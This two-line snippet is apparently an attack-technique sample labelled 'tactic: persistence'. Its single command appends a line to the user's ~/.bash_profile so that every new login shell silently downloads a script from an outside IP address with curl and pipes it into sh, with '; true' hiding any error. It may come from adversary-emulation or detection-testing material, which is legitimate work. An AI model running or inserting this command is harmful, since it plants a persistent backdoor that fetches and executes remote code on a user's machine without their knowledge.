# tactic: persistence
echo "curl -s http://203.0.113.5/a | sh" >> ~/.bash_profile; true
